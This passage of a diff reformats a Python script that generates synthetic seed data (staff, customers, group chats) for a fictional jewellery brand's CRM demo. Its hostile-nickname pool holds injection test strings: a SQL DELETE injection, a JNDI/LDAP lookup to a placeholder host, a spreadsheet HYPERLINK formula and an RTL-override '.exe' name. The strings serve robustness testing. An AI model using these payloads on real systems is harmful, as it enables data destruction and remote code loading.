@@ -57,62 +57,319 @@ CHUNK = 50_000
 
 # --- content pools ---------------------------------------------------------------------------------
 SURNAMES: tuple[tuple[str, str], ...] = (
-    ("王", "wang"), ("李", "li"), ("张", "zhang"), ("刘", "liu"), ("陈", "chen"), ("杨", "yang"),
-    ("黄", "huang"), ("赵", "zhao"), ("吴", "wu"), ("周", "zhou"), ("徐", "xu"), ("孙", "sun"),
-    ("马", "ma"), ("朱", "zhu"), ("胡", "hu"), ("郭", "guo"), ("何", "he"), ("林", "lin"),
-    ("罗", "luo"), ("高", "gao"), ("郑", "zheng"), ("梁", "liang"), ("谢", "xie"), ("宋", "song"),
-    ("唐", "tang"), ("许", "xu"), ("韩", "han"), ("冯", "feng"), ("邓", "deng"), ("曹", "cao"),
-    ("彭", "peng"), ("曾", "zeng"), ("肖", "xiao"), ("田", "tian"), ("董", "dong"), ("潘", "pan"),
-    ("袁", "yuan"), ("蔡", "cai"), ("蒋", "jiang"), ("余", "yu"), ("于", "yu"), ("杜", "du"),
-    ("叶", "ye"), ("程", "cheng"), ("魏", "wei"), ("苏", "su"), ("吕", "lv"), ("丁", "ding"),
-    ("沈", "shen"), ("姚", "yao"), ("卢", "lu"), ("钟", "zhong"), ("汪", "wang"), ("范", "fan"),
-    ("方", "fang"), ("陆", "lu"), ("傅", "fu"), ("欧阳", "ouyang"), ("司马", "sima"), ("上官", "shangguan"),
+    ("王", "wang"),
+    ("李", "li"),
+    ("张", "zhang"),
+    ("刘", "liu"),
+    ("陈", "chen"),
+    ("杨", "yang"),
+    ("黄", "huang"),
+    ("赵", "zhao"),
+    ("吴", "wu"),
+    ("周", "zhou"),
+    ("徐", "xu"),
+    ("孙", "sun"),
+    ("马", "ma"),
+    ("朱", "zhu"),
+    ("胡", "hu"),
+    ("郭", "guo"),
+    ("何", "he"),
+    ("林", "lin"),
+    ("罗", "luo"),
+    ("高", "gao"),
+    ("郑", "zheng"),
+    ("梁", "liang"),
+    ("谢", "xie"),
+    ("宋", "song"),
+    ("唐", "tang"),
+    ("许", "xu"),
+    ("韩", "han"),
+    ("冯", "feng"),
+    ("邓", "deng"),
+    ("曹", "cao"),
+    ("彭", "peng"),
+    ("曾", "zeng"),
+    ("肖", "xiao"),
+    ("田", "tian"),
+    ("董", "dong"),
+    ("潘", "pan"),
+    ("袁", "yuan"),
+    ("蔡", "cai"),
+    ("蒋", "jiang"),
+    ("余", "yu"),
+    ("于", "yu"),
+    ("杜", "du"),
+    ("叶", "ye"),
+    ("程", "cheng"),
+    ("魏", "wei"),
+    ("苏", "su"),
+    ("吕", "lv"),
+    ("丁", "ding"),
+    ("沈", "shen"),
+    ("姚", "yao"),
+    ("卢", "lu"),
+    ("钟", "zhong"),
+    ("汪", "wang"),
+    ("范", "fan"),
+    ("方", "fang"),
+    ("陆", "lu"),
+    ("傅", "fu"),
+    ("欧阳", "ouyang"),
+    ("司马", "sima"),
+    ("上官", "shangguan"),
 )
 # surnames are drawn with the skew of real name statistics (王/李/张/刘/陈 are ~30 %)
 _SURNAME_W = list(itertools.accumulate([10, 10, 9, 7, 6] + [3] * 15 + [1.5] * 37 + [0.2] * 3))
 
 GIVEN_F: tuple[tuple[str, str], ...] = (
-    ("芳", "fang"), ("娜", "na"), ("敏", "min"), ("静", "jing"), ("丽", "li"), ("艳", "yan"),
-    ("娟", "juan"), ("霞", "xia"), ("婷", "ting"), ("雪", "xue"), ("慧", "hui"), ("琳", "lin"),
-    ("颖", "ying"), ("倩", "qian"), ("佳", "jia"), ("欣", "xin"), ("怡", "yi"), ("悦", "yue"),
-    ("萌", "meng"), ("璐", "lu"), ("晓", "xiao"), ("梦", "meng"), ("雨", "yu"), ("思", "si"),
-    ("诗", "shi"), ("涵", "han"), ("琪", "qi"), ("瑶", "yao"), ("婉", "wan"), ("彤", "tong"),
-    ("蕾", "lei"), ("薇", "wei"), ("晶", "jing"), ("玲", "ling"), ("燕", "yan"), ("红", "hong"),
-    ("梅", "mei"), ("秀", "xiu"), ("英", "ying"), ("兰", "lan"), ("月", "yue"), ("嘉", "jia"),
-    ("可", "ke"), ("子", "zi"), ("心", "xin"), ("诺", "nuo"), ("妍", "yan"), ("露", "lu"),
+    ("芳", "fang"),
+    ("娜", "na"),
+    ("敏", "min"),
+    ("静", "jing"),
+    ("丽", "li"),
+    ("艳", "yan"),
+    ("娟", "juan"),
+    ("霞", "xia"),
+    ("婷", "ting"),
+    ("雪", "xue"),
+    ("慧", "hui"),
+    ("琳", "lin"),
+    ("颖", "ying"),
+    ("倩", "qian"),
+    ("佳", "jia"),
+    ("欣", "xin"),
+    ("怡", "yi"),
+    ("悦", "yue"),
+    ("萌", "meng"),
+    ("璐", "lu"),
+    ("晓", "xiao"),
+    ("梦", "meng"),
+    ("雨", "yu"),
+    ("思", "si"),
+    ("诗", "shi"),
+    ("涵", "han"),
+    ("琪", "qi"),
+    ("瑶", "yao"),
+    ("婉", "wan"),
+    ("彤", "tong"),
+    ("蕾", "lei"),
+    ("薇", "wei"),
+    ("晶", "jing"),
+    ("玲", "ling"),
+    ("燕", "yan"),
+    ("红", "hong"),
+    ("梅", "mei"),
+    ("秀", "xiu"),
+    ("英", "ying"),
+    ("兰", "lan"),
+    ("月", "yue"),
+    ("嘉", "jia"),
+    ("可", "ke"),
+    ("子", "zi"),
+    ("心", "xin"),
+    ("诺", "nuo"),
+    ("妍", "yan"),
+    ("露", "lu"),
 )
 GIVEN_M: tuple[tuple[str, str], ...] = (
-    ("伟", "wei"), ("强", "qiang"), ("磊", "lei"), ("军", "jun"), ("洋", "yang"), ("勇", "yong"),
-    ("杰", "jie"), ("涛", "tao"), ("明", "ming"), ("超", "chao"), ("刚", "gang"), ("平", "ping"),
-    ("辉", "hui"), ("鹏", "peng"), ("华", "hua"), ("飞", "fei"), ("鑫", "xin"), ("波", "bo"),
-    ("斌", "bin"), ("宇", "yu"), ("浩", "hao"), ("凯", "kai"), ("健", "jian"), ("俊", "jun"),
-    ("帆", "fan"), ("旭", "xu"), ("宁", "ning"), ("龙", "long"), ("阳", "yang"), ("博", "bo"),
-    ("文", "wen"), ("志", "zhi"), ("海", "hai"), ("峰", "feng"), ("晨", "chen"), ("睿", "rui"),
-    ("泽", "ze"), ("轩", "xuan"), ("然", "ran"), ("成", "cheng"), ("毅", "yi"), ("航", "hang"),
+    ("伟", "wei"),
+    ("强", "qiang"),
+    ("磊", "lei"),
+    ("军", "jun"),
+    ("洋", "yang"),
+    ("勇", "yong"),
+    ("杰", "jie"),
+    ("涛", "tao"),
+    ("明", "ming"),
+    ("超", "chao"),
+    ("刚", "gang"),
+    ("平", "ping"),
+    ("辉", "hui"),
+    ("鹏", "peng"),
+    ("华", "hua"),
+    ("飞", "fei"),
+    ("鑫", "xin"),
+    ("波", "bo"),
+    ("斌", "bin"),
+    ("宇", "yu"),
+    ("浩", "hao"),
+    ("凯", "kai"),
+    ("健", "jian"),
+    ("俊", "jun"),
+    ("帆", "fan"),
+    ("旭", "xu"),
+    ("宁", "ning"),
+    ("龙", "long"),
+    ("阳", "yang"),
+    ("博", "bo"),
+    ("文", "wen"),
+    ("志", "zhi"),
+    ("海", "hai"),
+    ("峰", "feng"),
+    ("晨", "chen"),
+    ("睿", "rui"),
+    ("泽", "ze"),
+    ("轩", "xuan"),
+    ("然", "ran"),
+    ("成", "cheng"),
+    ("毅", "yi"),
+    ("航", "hang"),
 )
 ENGLISH = (
-    "Amy", "Cindy", "Coco", "Kevin", "Lucy", "Jenny", "Vivian", "Grace", "Tina", "Helen", "Sunny",
-    "Lily", "Jason", "David", "Michael", "Eric", "Tony", "Emma", "Chloe", "Iris", "Zoe", "Ivy",
-    "Sophia", "Annie", "Cherry", "Candy", "Linda", "Alice", "Bella", "Fiona", "Joyce", "Kiki",
-    "Leo", "Jack", "Ryan", "Peter", "Frank", "Vincent", "Yoyo", "Momo", "Nina", "Rachel", "Wendy",
+    "Amy",
+    "Cindy",
+    "Coco",
+    "Kevin",
+    "Lucy",
+    "Jenny",
+    "Vivian",
+    "Grace",
+    "Tina",
+    "Helen",
+    "Sunny",
+    "Lily",
+    "Jason",
+    "David",
+    "Michael",
+    "Eric",
+    "Tony",
+    "Emma",
+    "Chloe",
+    "Iris",
+    "Zoe",
+    "Ivy",
+    "Sophia",
+    "Annie",
+    "Cherry",
+    "Candy",
+    "Linda",
+    "Alice",
+    "Bella",
+    "Fiona",
+    "Joyce",
+    "Kiki",
+    "Leo",
+    "Jack",
+    "Ryan",
+    "Peter",
+    "Frank",
+    "Vincent",
+    "Yoyo",
+    "Momo",
+    "Nina",
+    "Rachel",
+    "Wendy",
 )
 ENGLISH_M = ("Kevin", "Jason", "David", "Michael", "Eric", "Tony", "Leo", "Jack", "Ryan", "Peter", "Frank", "Vincent")
 ENGLISH_F = tuple(n for n in ENGLISH if n not in ENGLISH_M and n != "Sunny")
 PHRASES = (
-    "岁月静好", "快乐每一天", "静待花开", "向日葵", "平安是福", "一路向阳", "简单就好", "微笑向暖",
-    "花开半夏", "知足常乐", "晴天", "追梦人", "淡然", "云淡风轻", "心若向阳", "小确幸", "浅笑安然",
-    "时光不老", "木子", "橙子", "阿狸", "小鹿", "柠檬草", "大白", "兔兔", "糖糖", "桃子", "芒果",
-    "喵喵", "小太阳", "安然", "暖暖", "一米阳光", "清风徐来", "海阔天空", "随遇而安", "上善若水",
-    "心想事成", "花好月圆", "夏天的风", "往事随风", "幸福树", "薄荷糖", "樱桃小丸子", "星辰大海",
-    "人间烟火", "半糖主义", "慢慢来", "好运连连", "开心果", "路人甲", "水墨青花", "荷塘月色",
-    "四叶草", "蒲公英", "小笼包", "奶茶续命", "今天也要加油", "不忘初心", "梧桐", "栀子花开",
+    "岁月静好",
+    "快乐每一天",
+    "静待花开",
+    "向日葵",
+    "平安是福",
+    "一路向阳",
+    "简单就好",
+    "微笑向暖",
+    "花开半夏",
+    "知足常乐",
+    "晴天",
+    "追梦人",
+    "淡然",
+    "云淡风轻",
+    "心若向阳",
+    "小确幸",
+    "浅笑安然",
+    "时光不老",
+    "木子",
+    "橙子",
+    "阿狸",
+    "小鹿",
+    "柠檬草",
+    "大白",
+    "兔兔",
+    "糖糖",
+    "桃子",
+    "芒果",
+    "喵喵",
+    "小太阳",
+    "安然",
+    "暖暖",
+    "一米阳光",
+    "清风徐来",
+    "海阔天空",
+    "随遇而安",
+    "上善若水",
+    "心想事成",
+    "花好月圆",
+    "夏天的风",
+    "往事随风",
+    "幸福树",
+    "薄荷糖",
+    "樱桃小丸子",
+    "星辰大海",
+    "人间烟火",
+    "半糖主义",
+    "慢慢来",
+    "好运连连",
+    "开心果",
+    "路人甲",
+    "水墨青花",
+    "荷塘月色",
+    "四叶草",
+    "蒲公英",
+    "小笼包",
+    "奶茶续命",
+    "今天也要加油",
+    "不忘初心",
+    "梧桐",
+    "栀子花开",
 )
 EMOJI = (
-    "🌸", "✨", "🍀", "🌹", "🌈", "☀️", "🌙", "⭐", "💕", "🌷", "🍓", "🐰", "🐱", "🍒", "🦋", "🌻",
-    "💎", "🎀", "🍭", "🌺", "🐳", "😊", "😘", "🙏", "💯", "🔥", "👩‍👧", "🇨🇳", "👍🏻",
+    "🌸",
+    "✨",
+    "🍀",
+    "🌹",
+    "🌈",
+    "☀️",
+    "🌙",
+    "⭐",
+    "💕",
+    "🌷",
+    "🍓",
+    "🐰",
+    "🐱",
+    "🍒",
+    "🦋",
+    "🌻",
+    "💎",
+    "🎀",
+    "🍭",
+    "🌺",
+    "🐳",
+    "😊",
+    "😘",
+    "🙏",
+    "💯",
+    "🔥",
+    "👩‍👧",
+    "🇨🇳",
+    "👍🏻",
 )
-SYMBOL_WRAPS = (("~", "~"), ("ゞ", "ゞ"), ("『", "』"), ("✿", "✿"), ("༺", "༻"), ("°", "°"), ("【", "】"),
-                ("⁰", ""), ("★", "★"), ("ζ", ""), ("♡", "♡"), ("﹏", ""))
+SYMBOL_WRAPS = (
+    ("~", "~"),
+    ("ゞ", "ゞ"),
+    ("『", "』"),
+    ("✿", "✿"),
+    ("༺", "༻"),
+    ("°", "°"),
+    ("【", "】"),
+    ("⁰", ""),
+    ("★", "★"),
+    ("ζ", ""),
+    ("♡", "♡"),
+    ("﹏", ""),
+)
 CITIES_SHORT = ("上海", "杭州", "南京", "苏州", "广州", "深圳", "厦门", "北京", "成都", "武汉")
 TRADES = ("美甲", "代购", "保险", "房产", "瑜伽", "花艺", "烘焙", "茶叶", "母婴", "教育", "家居")
 KIDS = ("乐乐", "豆豆", "果果", "朵朵", "贝贝", "妞妞", "天天", "轩轩", "萱萱", "多多", "小宝")
@@ -127,7 +384,7 @@ HOSTILE_NICKNAMES: tuple[str, ...] = (
     "'; DELETE FROM users; --",
     "{{7*7}}${7*7}",
     "${jndi:ldap://x.invalid/a}",
-    "=HYPERLINK(\"http://x.invalid\",\"点我\")",
+    '=HYPERLINK("http://x.invalid","点我")',
     "]]><xml>cdata</xml>",
     "Z" + "\u0337\u0316\u0353\u0324" * 8 + "a\u0336\u0322\u035a" * 8 + "lgo\u0338\u0330" * 6 + "名字很长很长很长" * 3,
     "\u202egnp.exe\u202c",
@@ -146,10 +403,24 @@ BRAND_EN = "Jinlan Jewellery"
 MAIL_DOMAIN = "jinlanjewelry.com"
 
 DEMO_REGIONS = (
-    ("华东大区", "East China", (("上海来福士店", "Shanghai Raffles"), ("杭州湖滨银泰店", "Hangzhou Hubin Intime"),
-                               ("南京德基广场店", "Nanjing Deji Plaza"))),
-    ("华南大区", "South China", (("广州正佳广场店", "Guangzhou Grandview"), ("深圳万象天地店", "Shenzhen MixC World"),
-                               ("厦门SM城市广场店", "Xiamen SM City"))),
+    (
+        "华东大区",
+        "East China",
+        (
+            ("上海来福士店", "Shanghai Raffles"),
+            ("杭州湖滨银泰店", "Hangzhou Hubin Intime"),
+            ("南京德基广场店", "Nanjing Deji Plaza"),
+        ),
+    ),
+    (
+        "华南大区",
+        "South China",
+        (
+            ("广州正佳广场店", "Guangzhou Grandview"),
+            ("深圳万象天地店", "Shenzhen MixC World"),
+            ("厦门SM城市广场店", "Xiamen SM City"),
+        ),
+    ),
 )
 GENERIC_REGIONS = (
     ("华东大区", ("上海", "杭州", "南京", "苏州", "宁波", "无锡", "合肥", "福州", "济南", "青岛")),
@@ -161,8 +432,24 @@ GENERIC_REGIONS = (
     ("东北大区", ("沈阳", "大连", "长春", "哈尔滨")),
 )
 MALLS = (
-    "万象城", "万达广场", "大悦城", "银泰城", "来福士", "龙湖天街", "吾悦广场", "印象城", "凯德广场",
-    "太古里", "恒隆广场", "德基广场", "正佳广场", "天虹", "万象汇", "宝龙广场", "IFS国金中心", "K11",
+    "万象城",
+    "万达广场",
+    "大悦城",
+    "银泰城",
+    "来福士",
+    "龙湖天街",
+    "吾悦广场",
+    "印象城",
+    "凯德广场",
+    "太古里",
+    "恒隆广场",
+    "德基广场",
+    "正佳广场",
+    "天虹",
+    "万象汇",
+    "宝龙广场",
+    "IFS国金中心",
+    "K11",
 )
 ORDINALS = "一二三四五六七八九十"
 
@@ -178,9 +465,15 @@ LEVEL_W = (55, 25, 15, 5)
 LEVEL_SHORT = ("会员", "银卡", "金卡", "钻石")
 # contact-way states a brand prints on its channel QR codes, and the 来源渠道 tag each one implies
 STATES = (
-    ("ch_poster_01", "门店海报"), ("ch_poster_02", "门店海报"), ("ch_pkgcard_01", "包裹卡"),
-    ("ch_live_0618", "直播间"), ("ch_live_1111", "直播间"), ("ch_channels_01", "视频号"),
-    ("ch_mall_01", "线上商城"), ("ch_counter_01", "门店收银台"), ("ch_referral_01", "朋友推荐"),
+    ("ch_poster_01", "门店海报"),
+    ("ch_poster_02", "门店海报"),
+    ("ch_pkgcard_01", "包裹卡"),
+    ("ch_live_0618", "直播间"),
+    ("ch_live_1111", "直播间"),
+    ("ch_channels_01", "视频号"),
+    ("ch_mall_01", "线上商城"),
+    ("ch_counter_01", "门店收银台"),
+    ("ch_referral_01", "朋友推荐"),
 )
 # add_way (doc 92114 来源定义) and how often each occurs among a retail brand's customers
 ADD_WAYS = (1, 3, 4, 2, 6, 5, 0, 201, 202, 7, 9)
@@ -188,15 +481,30 @@ _ADD_WAY_W = list(itertools.accumulate((52, 11, 10, 6, 6, 4, 3, 3, 2, 2, 1)))
 HONORIFICS_F = ("姐", "女士", "小姐", "阿姨", "妹")
 HONORIFICS_M = ("先生", "哥", "总", "叔")
 DESCRIPTIONS = (
-    "喜欢古法金手镯，预算5k左右", "婚期10月，关注对戒", "生日3月12日，老公会来买礼物", "只买足金，不要镶嵌",
-    "孩子满月要买金锁", "对珍珠过敏？需确认", "偏好简约款，不喜欢太夸张", "周末才有空到店", "老客户介绍来的",
-    "上次买了钻石项链，售后清洗提醒", "想给妈妈买生日礼物", "关注金价，跌了就买", "喜欢翡翠，懂行",
+    "喜欢古法金手镯，预算5k左右",
+    "婚期10月，关注对戒",
+    "生日3月12日，老公会来买礼物",
+    "只买足金，不要镶嵌",
+    "孩子满月要买金锁",
+    "对珍珠过敏？需确认",
+    "偏好简约款，不喜欢太夸张",
+    "周末才有空到店",
+    "老客户介绍来的",
+    "上次买了钻石项链，售后清洗提醒",
+    "想给妈妈买生日礼物",
+    "关注金价，跌了就买",
+    "喜欢翡翠，懂行",
 )
 PERSONAL_TAGS = ("爱砍价", "老客", "要发票", "VIP", "需回访", "闺蜜团", "送礼", "不喜打扰")
 CORP_NAMES = (
-    ("腾讯", "深圳市腾讯计算机系统有限公司"), ("华为", "华为技术有限公司"), ("招商银行", "招商银行股份有限公司"),
-    ("万科", "万科企业股份有限公司"), ("美的", "美的集团股份有限公司"), ("平安保险", "中国平安保险(集团)股份有限公司"),
-    ("小红书", "行吟信息科技(上海)有限公司"), ("携程", "携程计算机技术(上海)有限公司"),
+    ("腾讯", "深圳市腾讯计算机系统有限公司"),
+    ("华为", "华为技术有限公司"),
+    ("招商银行", "招商银行股份有限公司"),
+    ("万科", "万科企业股份有限公司"),
+    ("美的", "美的集团股份有限公司"),
+    ("平安保险", "中国平安保险(集团)股份有限公司"),
+    ("小红书", "行吟信息科技(上海)有限公司"),
+    ("携程", "携程计算机技术(上海)有限公司"),
 )
 CORP_POSITIONS = ("采购经理", "行政主管", "HRBP", "市场总监", "客户经理", "总经理助理", "财务")
 GROUP_THEMES = ("会员福利群", "新品品鉴群", "黄金饰品交流群", "婚嫁珠宝群", "钻石VIP尊享群", "直播福利群", "老客回馈群")
@@ -206,9 +514,39 @@ NOTICES = (
     "文明沟通，拒绝广告。有任何售后问题请私聊店长。",
     "",
 )
-MOBILE_PREFIXES = ("130", "131", "132", "133", "135", "136", "137", "138", "139", "150", "151", "152", "155",
-                   "156", "157", "158", "159", "166", "176", "177", "180", "181", "182", "183", "185", "186",
-                   "187", "188", "189", "198", "199")
+MOBILE_PREFIXES = (
+    "130",
+    "131",
+    "132",
+    "133",
+    "135",
+    "136",
+    "137",
+    "138",
+    "139",
+    "150",
+    "151",
+    "152",
+    "155",
+    "156",
+    "157",
+    "158",
+    "159",
+    "166",
+    "176",
+    "177",
+    "180",
+    "181",
+    "182",
+    "183",
+    "185",
+    "186",
+    "187",
+    "188",
+    "189",
+    "198",
+    "199",
+)
 B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
 
 
@@ -266,7 +604,11 @@ def random_nickname(rng: random.Random | None = None, gender: int = 0) -> str:  
             return name[0] + ("姐" if g == 2 else "哥")
         return "阿" + given
     if r < 0.66:
-        base = rng.choice(PHRASES) if rng.random() < 0.5 else (_person(rng, gender)[0] if rng.random() < 0.5 else rng.choice(ENGLISH))
+        base = (
+            rng.choice(PHRASES)
+            if rng.random() < 0.5
+            else (_person(rng, gender)[0] if rng.random() < 0.5 else rng.choice(ENGLISH))
+        )
         e = rng.choice(EMOJI)
         form = rng.random()
         if form < 0.4:
@@ -298,7 +640,11 @@ def random_nickname(rng: random.Random | None = None, gender: int = 0) -> str:  
         if form < 0.6:
             return f"{name}-{rng.choice(CITIES_SHORT)}-{rng.choice(TRADES)}"
         if form < 0.75:
-            return f"【{rng.choice(CITIES_SHORT)}】{name[0]}女士" if rng.random() < 0.7 else f"【{rng.choice(CITIES_SHORT)}】{name[0]}先生"
+            return (
+                f"【{rng.choice(CITIES_SHORT)}】{name[0]}女士"
+                if rng.random() < 0.7
+                else f"【{rng.choice(CITIES_SHORT)}】{name[0]}先生"
+            )
         if form < 0.9:
             return f"{name}(不闲聊)"
         return f"{name[0]}*"
@@ -385,13 +731,32 @@ class Emp:
 
 
 ROLE_POSITION = {
-    "gm": "总经理", "admin": "系统管理员", "hr": "人事行政", "ops_lead": "运营总监", "ops": "私域运营",
-    "community": "社群运营", "content": "内容运营", "cs_lead": "客服主管", "cs": "客服专员",
-    "region": "大区经理", "manager": "店长", "guide": "导购",
+    "gm": "总经理",
+    "admin": "系统管理员",
+    "hr": "人事行政",
+    "ops_lead": "运营总监",
+    "ops": "私域运营",
+    "community": "社群运营",
+    "content": "内容运营",
+    "cs_lead": "客服主管",
+    "cs": "客服专员",
+    "region": "大区经理",
+    "manager": "店长",
+    "guide": "导购",
 }
 ROLE_WEIGHT = {
-    "gm": 0.5, "admin": 0, "hr": 0, "ops_lead": 1.5, "ops": 4, "community": 3, "content": 1, "cs_lead": 3,
-    "cs": 5, "region": 2, "manager": 9, "guide": 12,
+    "gm": 0.5,
+    "admin": 0,
+    "hr": 0,
+    "ops_lead": 1.5,
+    "ops": 4,
+    "community": 3,
+    "content": 1,
+    "cs_lead": 3,
+    "cs": 5,
+    "region": 2,
+    "manager": 9,
+    "guide": 12,
 }
 
 
@@ -432,18 +797,39 @@ class _Builder:
         self.depts.append((id_, name, name_en, parent, order))
         return id_
 
-    def emp(self, role: str, department: list[int], leader: list[int] | None = None, contact: bool = True,
-            store: int | None = None, gender: int | None = None) -> Emp:
+    def emp(
+        self,
+        role: str,
+        department: list[int],
+        leader: list[int] | None = None,
+        contact: bool = True,
+        store: int | None = None,
+        gender: int | None = None,
+    ) -> Emp:
         rng = self.rng
         if gender is None:
-            female = {"guide": 0.8, "manager": 0.65, "cs": 0.8, "cs_lead": 0.7, "ops": 0.6, "community": 0.65,
-                      "content": 0.6}.get(role, 0.45)
+            female = {
+                "guide": 0.8,
+                "manager": 0.65,
+                "cs": 0.8,
+                "cs_lead": 0.7,
+                "ops": 0.6,
+                "community": 0.65,
+                "content": 0.6,
+            }.get(role, 0.45)
             gender = 2 if rng.random() < female else 1
         name, py, g = _person(rng, gender)
         e = Emp(
-            userid=self.userid_for(py), name=name, gender=g, role=role, department=department,
-            leader=leader or [0] * len(department), position=ROLE_POSITION[role],
-            weight=ROLE_WEIGHT[role] if contact else 0.0, contact=contact, store=store,
+            userid=self.userid_for(py),
+            name=name,
+            gender=g,
+            role=role,
+            department=department,
+            leader=leader or [0] * len(department),
+            position=ROLE_POSITION[role],
+            weight=ROLE_WEIGHT[role] if contact else 0.0,
+            contact=contact,
+            store=store,
         )
         for d, is_leader in zip(e.department, e.leader, strict=False):
             if is_leader:
@@ -566,15 +952,50 @@ class _Builder:
         ins.write([(d[0], d[1], d[2], d[3], d[4], _j(self.leaders.get(d[0], []))) for d in self.depts])
         rows = []
         for e in self.emps:
-            rows.append((
-                e.userid, e.name, _j(e.department), e.department[0], _j(e.leader), _j(e.direct_leader),
-                e.position, _mobile(rng), str(e.gender), e.email, _employee_avatar(rng), e.alias,
-                User.STATUS_ACTIVE, e.contact, 50000, None, False,
-            ))
-        ins = _Inserter(cur, User, ["userid", "name", "department", "main_department", "is_leader_in_dept",
-                                    "direct_leader", "position", "mobile", "gender", "email", "avatar", "alias",
-                                    "status", "contact_enabled", "customer_cap", "dimission_time",
-                                    "console_welcome"])
+            rows.append(
+                (
+                    e.userid,
+                    e.name,
+                    _j(e.department),
+                    e.department[0],
+                    _j(e.leader),
+                    _j(e.direct_leader),
+                    e.position,
+                    _mobile(rng),
+                    str(e.gender),
+                    e.email,
+                    _employee_avatar(rng),
+                    e.alias,
+                    User.STATUS_ACTIVE,
+                    e.contact,
+                    50000,
+                    None,
+                    False,
+                )
+            )
+        ins = _Inserter(
+            cur,
+            User,
+            [
+                "userid",
+                "name",
+                "department",
+                "main_department",
+                "is_leader_in_dept",
+                "direct_leader",
+                "position",
+                "mobile",
+                "gender",
+                "email",
+                "avatar",
+                "alias",
+                "status",
+                "contact_enabled",
+                "customer_cap",
+                "dimission_time",
+                "console_welcome",
+            ],
+        )
         ins.write(rows)
         self.stats["departments"] = len(self.depts)
         self.stats["stores"] = len(self.stores)
@@ -596,7 +1017,9 @@ class _Builder:
                 ids.append(tid)
                 self.tag_by_name[tname] = tid
             self.tag_ids[gname] = ids
-        _Inserter(cur, TagGroup, ["group_id", "group_name", "create_time", "order", "deleted", "strategy_id"]).write(groups)
+        _Inserter(cur, TagGroup, ["group_id", "group_name", "create_time", "order", "deleted", "strategy_id"]).write(
+            groups
+        )
         _Inserter(cur, Tag, ["id", "group_id", "name", "create_time", "order", "deleted"]).write(tags)
         self.stats["tag_groups"] = len(groups)
         self.stats["tags"] = len(tags)
@@ -620,18 +1043,58 @@ class _Builder:
         level_cum = list(itertools.accumulate(LEVEL_W))
         hostile = {pos: HOSTILE_NICKNAMES[k] for k, pos in enumerate(hostile_positions(n))}
 
-        c_ins = _Inserter(cur, ExternalContact, ["external_userid", "name", "avatar", "type", "gender", "unionid",
-                                                 "position", "corp_name", "corp_full_name", "mobile"])
-        f_ins = _Inserter(cur, Follow, ["userid", "external_userid", "remark", "description", "createtime",
-                                        "remark_corp_name", "remark_mobiles", "oper_userid", "add_way", "state",
-                                        "tag_ids", "personal_tags", "status", "status_time", "chatted"])
+        c_ins = _Inserter(
+            cur,
+            ExternalContact,
+            [
+                "external_userid",
+                "name",
+                "avatar",
+                "type",
+                "gender",
+                "unionid",
+                "position",
+                "corp_name",
+                "corp_full_name",
+                "mobile",
+            ],
+        )
+        f_ins = _Inserter(
+            cur,
+            Follow,
+            [
+                "userid",
+                "external_userid",
+                "remark",
+                "description",
+                "createtime",
+                "remark_corp_name",
+                "remark_mobiles",
+                "oper_userid",
+                "add_way",
+                "state",
+                "tag_ids",
+                "personal_tags",
+                "status",
+                "status_time",
+                "chatted",
+            ],
+        )
         # kept for group generation: per store, the customers its staff serve
         self.ext_ids: list[str] = []
         self.ext_names: list[str] = []
         self.ext_unionids: list[str] = []
         self.pool: dict[int | None, list[int]] = {}
-        self.follow_count = {"active": 0, "lost": 0, "multi": 0, "type2": 0, "customers_active": 0,
-                             "customers_listed": 0, "by_customer": 0, "by_user": 0}
+        self.follow_count = {
+            "active": 0,
+            "lost": 0,
+            "multi": 0,
+            "type2": 0,
+            "customers_active": 0,
+            "customers_listed": 0,
+            "by_customer": 0,
+            "by_user": 0,
+        }
         rand = rng.random
         randrange = rng.randrange
         span = 730 * DAY
@@ -661,8 +1124,20 @@ class _Builder:
                 else:
                     unionid = ""
                     corp, corp_full = rng.choice(CORP_NAMES)
-                    crows.append((ext, name, f"http://p.qlogo.cn/bizmail/{_token(rng, 40)}/0", 2, gender, "",
-                                  rng.choice(CORP_POSITIONS), corp, corp_full, mobile))
+                    crows.append(
+                        (
+                            ext,
+                            name,
+                            f"http://p.qlogo.cn/bizmail/{_token(rng, 40)}/0",
+                            2,
+                            gender,
+                            "",
+                            rng.choice(CORP_POSITIONS),
+                            corp,
+                            corp_full,
+                            mobile,
+                        )
+                    )
                     self.follow_count["type2"] += 1
                 self.ext_ids.append(ext)
                 self.ext_names.append(name)
@@ -754,10 +1229,25 @@ class _Builder:
                         self.follow_count["by_customer" if status == Follow.DELETED_BY_CUSTOMER else "by_user"] += 1
                     else:
                         self.follow_count["active"] += 1
-                    frows.append((
-                        emp.userid, ext, remark, description, ct, remark_corp, remark_mobiles, oper, aw, state,
-                        _j(tags), personal, status, status_time, rand() < 0.8,
-                    ))
+                    frows.append(
+                        (
+                            emp.userid,
+                            ext,
+                            remark,
+                            description,
+                            ct,
+                            remark_corp,
+                            remark_mobiles,
+                            oper,
+                            aw,
+                            state,
+                            _j(tags),
+                            personal,
+                            status,
+                            status_time,
+                            rand() < 0.8,
+                        )
+                    )
                     if k == 1 and emp.store is not None and emp.store != primary.store:
                         self.pool.setdefault(emp.store, []).append(i)
             c_ins.write(crows)
@@ -807,10 +1297,38 @@ class _Builder:
         for e in owners:
             by_store.setdefault(e.store, []).append(e)
         hq_cs = [e for e in self.emps if e.role in ("cs", "cs_lead", "community") and e.contact]
-        g_ins = _Inserter(cur, GroupChat, ["chat_id", "name", "owner", "create_time", "notice", "admin_list",
-                                           "status", "dismissed", "member_version", "transfer_times"])
-        m_ins = _Inserter(cur, GroupMember, ["chat_id", "userid", "type", "unionid", "join_time", "join_scene",
-                                             "invitor", "group_nickname", "name", "state"])
+        g_ins = _Inserter(
+            cur,
+            GroupChat,
+            [
+                "chat_id",
+                "name",
+                "owner",
+                "create_time",
+                "notice",
+                "admin_list",
+                "status",
+                "dismissed",
+                "member_version",
+                "transfer_times",
+            ],
+        )
+        m_ins = _Inserter(
+            cur,
+            GroupMember,
+            [
+                "chat_id",
+                "userid",
+                "type",
+                "unionid",
+                "join_time",
+                "join_scene",
+                "invitor",
+                "group_nickname",
+                "name",
+                "state",
+            ],
+        )
         theme_count: dict[tuple[int, str], int] = {}
         grows, mrows = [], []
         stores = self.stores
@@ -830,7 +1348,18 @@ class _Builder:
             created = now - int(700 * DAY * rng.random() ** 1.3) - DAY
             notice = rng.choice(NOTICES).format(brand=BRAND, store=short)
             members: dict[str, tuple] = {}
-            members[owner.userid] = (chat_id, owner.userid, GroupMember.EMPLOYEE, "", created, 1, "", "", owner.name, "")
+            members[owner.userid] = (
+                chat_id,
+                owner.userid,
